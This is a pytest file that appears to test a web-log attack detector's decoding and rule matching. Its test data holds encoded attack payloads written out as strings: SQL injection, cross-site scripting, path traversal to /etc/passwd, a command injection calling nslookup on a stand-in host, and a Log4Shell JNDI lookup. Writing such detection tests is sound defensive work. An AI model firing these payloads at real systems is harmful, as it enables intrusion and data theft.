"""Web attacks written the way scanners send them: rules see through URL, double, entity and unicode encoding."""
import pytest

from detectors.parsers import parse_line
from detectors.parsers.webdecode import decode
from detectors.pipeline import Detector

LINE = '203.0.113.9 - - [01/Dec/2026:10:00:00 +0000] "GET {url} HTTP/1.1" 404 0 "-" "{ua}"'


@pytest.mark.parametrize("raw,plain", [
    ("%27%20waitfor%20delay%20%270:0:5%27", "' waitfor delay '0:0:5'"),
    ("%252fetc%252fpasswd", "/etc/passwd"),
    ("a+b%2Bc", "a b c"),  # until stable: %2B is a + the next round reads as a space
    ("&lt;ScRiPt&gt;", "<ScRiPt>"),
    ("%u0027or%u00271", "'or'1"),
    ("\\u003cscript\\u003e", "<script>"),
])
def test_decode_until_stable(raw, plain):
    assert decode(raw) == plain


@pytest.mark.parametrize("url,ua,rule", [
    ("/item?id=1%27%20waitfor%20delay%20%270:0:5%27--", "Mozilla/5.0", "SQL injection"),
    ("/x?q=(select%20pg_sleep(5))", "Mozilla/5.0", "SQL injection"),
    ("/s?q=%3CScRiPt%20%3Ealert(1)%3C/script%3E", "Mozilla/5.0", "Cross-site scripting"),
    ("/static/..%252f..%252fetc%252fpasswd", "Mozilla/5.0", "path traversal"),
    ("/ping?h=x%3B%24(nslookup%20a.example)", "Mozilla/5.0", "Command injection"),
    ("/scripts/root.exe?/c+dir", "-", "worm"),
    ("http://other.example/", "-", "Open proxy"),
    ("/", "sqlmap/1.7.2#stable (https://sqlmap.org)", "scanner user agent"),
    ("/", "${jndi:ldap://203.0.113.99/a}", "Log4Shell"),
])
def test_encoded_attacks_raise_the_pack_rule(url, ua, rule):
    alerts, _ = Detector().process(parse_line(LINE.format(url=url, ua=ua)))
    assert any(rule.lower() in a.title.lower() for a in alerts), [a.title for a in alerts]


def test_benign_requests_raise_nothing_and_the_raw_value_is_kept():
    evs = parse_line(LINE.format(url="/search?q=union+station+selection&page=2", ua="Mozilla/5.0"))
    alerts, _ = Detector().process(evs)
    assert not alerts
    assert evs[0]["url.original"] == "/search?q=union+station+selection&page=2"  # as logged; the decoded copy aside
    assert evs[0]["_decoded"]["url.original"] == "/search?q=union station selection&page=2"


def test_many_login_posts_from_one_source_are_a_web_brute_force():
    lines = [f'203.0.113.120 - - [01/Dec/2026:10:00:{i:02d} +0000] "POST /wp-login.php HTTP/1.1" 200 4520 "-" "x"'
             for i in range(25)]
    alerts, _ = Detector().process([e for ln in lines for e in parse_line(ln)])
    (bf,) = [a for a in alerts if a.rule_id == "ci-anomaly-web-login"]
    assert bf.entity == {"source.ip": "203.0.113.120"} and "/wp-login.php" in bf.explanation["summary"]
